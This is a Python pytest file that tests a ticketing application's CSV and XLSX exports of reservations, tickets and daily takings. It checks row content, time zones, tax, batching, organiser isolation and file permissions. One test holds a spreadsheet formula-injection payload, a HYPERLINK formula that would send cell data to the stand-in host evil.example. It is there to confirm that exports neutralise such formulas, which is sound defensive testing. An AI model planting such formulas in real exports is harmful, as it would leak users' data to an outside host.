"""What stands in exports, read by other programs."""

import stat
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from uuid import UUID
from zipfile import ZipFile

import pytest

from tests.exporting import asked, made, read_csv, read_xlsx
from tests.factories import make_event, make_member, make_organiser, make_reservation, ticket_type, wanted
from tests.moments import at
from ticketonline.accounts.rules import Role
from ticketonline.audit.actor import OPERATOR
from ticketonline.core import clock
from ticketonline.events.models import Event, TicketType
from ticketonline.exports import sources
from ticketonline.exports.rules import KEPT
from ticketonline.exports.services import make_file
from ticketonline.payments.gateways.base import Answer
from ticketonline.payments.services.return_order import return_order
from ticketonline.payments.services.settle import settle
from ticketonline.payments.services.start_payment import start_payment
from ticketonline.sales.models import Reservation
from ticketonline.sales.rules import Status
from ticketonline.sales.services.cancel import cancel
from ticketonline.sales.services.reserve import reserve

pytestmark = pytest.mark.django_db

EVENING = datetime(2027, 7, 10, 23, 30, tzinfo=UTC)  # in Warsaw the next day has begun


@pytest.fixture
def owner():
    return make_member(make_organiser(), Role.OWNER, name="olga")


@pytest.fixture
def event():
    types = (ticket_type("VIP", "120.00"), ticket_type("Free", "0"))
    return make_event(*types, date=EVENING + timedelta(days=9), time_zone="Europe/Warsaw", currency="PLN")


def buy(event, email="bruno@example.org", **amounts) -> Reservation:
    """A reservation that is paid for."""
    reservation = reserve(event_id=event.pk, wanted=wanted(**amounts), email=email, language="pl")
    payment = start_payment(reservation.pk)
    if payment.status == "PENDING":  # what costs nothing is paid at once
        settle(payment.pk, Answer())
    return reservation


# --- What stands in them ------------------------------------------------------------------------------------------


def test_reservations_are_listed_with_what_is_in_them_and_the_clock_of_the_event(owner, event):
    with at(EVENING):
        held = reserve(event_id=event.pk, wanted=wanted(VIP=2, Free=1), email="bruno@example.org", language="pl")
        export = made(owner)

    (row,) = read_csv(export)

    assert row == {
        "Event": "Jazz Night",
        "Reserved at": "2027-07-11 01:30:00",
        "State": "Pending",
        "Paid or cancelled at": "",
        "Cancelled after payment at": "",
        "Time zone": "Europe/Warsaw",
        "Number of tickets": "3",
        "Tickets": "2 × VIP, 1 × Free",
        "Promo code": "",
        "Discount": "",
        "Sum": "240.00",
        "Currency": "PLN",
        "Way of payment": "",
        "Payment": "",
        "Name": "",
        "E-mail address": "bruno@example.org",
        "Language": "pl",
        "Reservation": str(held.pk),
    }
    assert (export.state, export.rows_done, export.rows_in_all) == ("DONE", 1, 1)


def test_each_reservation_stands_there_once_in_its_state_as_it_reads(owner, event):
    with at(EVENING):
        paid, ended, cancelled = buy(event, VIP=1), make_reservation(event, VIP=1), make_reservation(event, VIP=1)
        cancel(cancelled.pk)
    with at(ended.hold_ends_at):
        rows = read_csv(made(owner, event_id=event.pk))

    assert len(rows) == 3
    assert {row["Reservation"]: row["State"] for row in rows} == {
        str(paid.pk): "Paid",
        str(ended.pk): "Cancelled",
        str(cancelled.pk): "Cancelled",
    }


def test_paid_tickets_are_listed_one_a_line(owner, event):
    with at(EVENING):
        paid = buy(event, VIP=2, Free=1)
        make_reservation(event, VIP=1)
        export = made(owner, "tickets", "xlsx")

    rows = read_xlsx(export)

    assert sorted(row["Ticket"] for row in rows) == sorted(str(ticket.pk) for ticket in paid.tickets.all())
    assert sorted(row["Ticket type"] for row in rows) == ["Free", "VIP", "VIP"]
    assert {row["Paid at"] for row in rows} == {datetime(2027, 7, 11, 1, 30)}
    assert {row["E-mail address"] for row in rows} == {"bruno@example.org"}
    assert (export.rows_done, export.rows_in_all) == (3, 3)


def test_what_came_back_is_told_on_the_day_of_the_return_and_the_tax_with_it(owner, event):
    TicketType.objects.filter(event=event, type="VIP").update(tax_rate=Decimal(8))
    with at(EVENING):
        paid, _kept = buy(event, VIP=1), buy(event, VIP=1)
    with at(EVENING + timedelta(days=2)):
        return_order(paid.pk, refund=True, by=OPERATOR)
        rows, orders = read_csv(made(owner, "money")), read_csv(made(owner))

    titles = ("Day", "Sold", "Taken in", "Returned", "Given back", "Net", "Tax")
    assert [tuple(row[title] for title in titles) for row in rows] == [
        ("2027-07-11", "2", "240.00", "0", "0.00", "222.22", "17.78"),
        ("2027-07-13", "0", "0.00", "1", "120.00", "-111.11", "-8.89"),
    ]
    assert sorted(row["Cancelled after payment at"] for row in orders) == ["", "2027-07-13 01:30:00"]


def test_money_is_added_up_by_day_of_the_event_and_type_with_its_tax(owner, event):
    TicketType.objects.filter(event=event, type="Free").update(tax_rate=Decimal(23))
    TicketType.objects.filter(event=event, type="VIP").update(tax_rate=Decimal(8))
    with at(EVENING - timedelta(hours=2)):
        buy(event, Free=1)
    with at(EVENING):
        buy(event, Free=2, VIP=2)
        export, plain = made(owner, "money", "xlsx"), made(owner, "money")

    assert [
        (row["Day"], row["Ticket type"], row["Sold"], row["Taken in"], row["Tax"]) for row in read_xlsx(export)
    ] == [
        (datetime(2027, 7, 10), "Free", 1, 0, 0),
        (datetime(2027, 7, 11), "VIP", 2, 240, 17.78),
        (datetime(2027, 7, 11), "Free", 2, 0, 0),
    ]
    assert [(row["Day"], row["Net"], row["Tax rate in percent"]) for row in read_csv(plain)] == [
        ("2027-07-10", "0.00", "23.00"),
        ("2027-07-11", "222.22", "8.00"),
        ("2027-07-11", "0.00", "23.00"),
    ]


def test_numbers_are_numbers_and_moments_are_moments_in_a_workbook(owner, event):
    with at(EVENING):
        make_reservation(event, VIP=2)
        (row,) = read_xlsx(made(owner, format="xlsx"))

    assert (row["Sum"], row["Number of tickets"]) == (240, 2)
    assert row["Reserved at"] == datetime(2027, 7, 11, 1, 30)


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_titles_are_in_the_language_of_whoever_asked(owner, event, format):
    make_reservation(event, VIP=1)

    export = made(owner, format=format, language="pl")

    (row,) = (read_csv if format == "csv" else read_xlsx)(export)
    assert row["Bilety"] == "1 × VIP"


# --- How much of it -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["reservations", "tickets"])
def test_of_days_only_what_was_reserved_on_them_is_listed(owner, event, kind):
    found = []
    for hours in (0, 24, 48):
        with at(EVENING + timedelta(hours=hours)):
            found.append(buy(event, Free=1))

    with at(EVENING + timedelta(days=4)):
        span = {"since": EVENING + timedelta(hours=1), "until": EVENING + timedelta(hours=25)}
        rows = read_csv(made(owner, kind, **span))

    assert [row["Reservation"] for row in rows] == [str(found[1].pk)]


def test_of_days_only_the_money_that_came_in_on_them_is_listed(owner, event):
    for hours in (0, 24, 48):
        with at(EVENING + timedelta(hours=hours)):
            buy(event, Free=1)

    with at(EVENING + timedelta(days=4)):
        span = {"since": EVENING + timedelta(hours=1), "until": EVENING + timedelta(hours=25)}
        rows = read_csv(made(owner, "money", **span))

    assert [row["Day"] for row in rows] == [str(date(2027, 7, 12))]


def test_what_was_reserved_after_the_asking_is_left_out(owner, event):
    with at(EVENING):
        make_reservation(event, VIP=1)
        export = asked(owner)
    with at(EVENING + timedelta(minutes=1)):
        make_reservation(event, VIP=1)
        make_file.make_next_file()

    export.refresh_from_db()
    assert len(read_csv(export)) == 1


def test_every_batch_of_every_event_is_written(owner, event, monkeypatch):
    monkeypatch.setattr(sources, "BATCH", 2)
    other = make_event(name="Rock", date=EVENING + timedelta(days=8))
    with at(EVENING):
        ids = {one.name: sorted(str(make_reservation(one, VIP=1).pk) for _ in range(5)) for one in (other, event)}
        rows = read_csv(made(owner))

    assert [row["Reservation"] for row in rows] == [*ids["Rock"], *ids["Jazz Night"]]


def test_what_is_paid_or_cancelled_meanwhile_stands_there_once(owner, event, monkeypatch):
    monkeypatch.setattr(sources, "BATCH", 2)
    ids = sorted(make_reservation(event, VIP=1).pk for _ in range(6))
    every = {"low": ids[0], "high": UUID(int=ids[-1].int + 1)}

    batches = sources.read_orders(Event.objects.all(), Status, **every)
    seen = [order.kept.pk for order in next(batches)]
    for key in (ids[0], ids[2], ids[5]):
        settle(start_payment(key).pk, Answer())
    cancel(ids[1])
    cancel(ids[3])
    seen += [order.kept.pk for batch in batches for order in batch]

    assert seen == ids


def test_nothing_of_other_organisers_is_in_it(owner, event):
    stellas = make_event(name="Supper", organiser=make_organiser("stellas", "Stella’s"))
    make_reservation(stellas)

    for kind in ("reservations", "tickets", "money"):
        assert read_csv(made(owner, kind)) == []


def test_more_rows_than_fit_into_a_file_are_refused(owner, event, monkeypatch):
    monkeypatch.setattr(make_file, "MOST_ROWS", 2)
    for _ in range(3):
        make_reservation(event, VIP=1)

    export = made(owner)

    assert (export.state, export.fault, export.file) == ("FAILED", "too_long", "")


# --- The file -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r"])
def test_what_looks_like_a_formula_is_a_text(owner, sign):
    evil = f'{sign}HYPERLINK("http://evil.example/?"&A1)'
    event = make_event()
    Event.objects.filter(pk=event.pk).update(name=evil)
    make_reservation(event)

    plain, book = made(owner), made(owner, format="xlsx")

    assert read_csv(plain)[0]["Event"] == f"'{evil}"
    (row,) = read_xlsx(book)
    assert row["Event"].removeprefix("_x000D_").strip() == evil.strip()  # how a workbook writes a CR
    with ZipFile(book.path) as parts:
        assert not any(b"<f>" in parts.read(name) or b"<hyperlink" in parts.read(name) for name in parts.namelist())


def test_csv_is_as_programs_expect_it(owner):
    make_reservation(make_event(name='Łódź, "live"'), VIP=1)

    raw = made(owner).path.read_bytes()

    assert raw.startswith(b"\xef\xbb\xbfEvent,Reserved at,")
    assert raw.endswith(b"\r\n")
    assert '"Łódź, ""live"""'.encode() in raw


def test_the_file_is_for_the_program_alone_under_a_name_that_cannot_be_guessed(owner, event):
    one, other = made(owner), made(owner, format="xlsx")

    for export in (one, other):
        assert stat.S_IMODE(export.path.stat().st_mode) == 0o600
        assert len(export.path.stem) >= 32
    assert one.path.stem != other.path.stem
    assert stat.S_IMODE(one.path.parent.stat().st_mode) == 0o700


def test_a_file_is_kept_for_seven_days_from_when_it_is_done(owner, event):
    export = asked(owner)
    with at(clock.now() + timedelta(hours=1)) as done:
        make_file.make_next_file()

    export.refresh_from_db()
    assert (export.done_at, export.expires_at) == (done, done + KEPT)
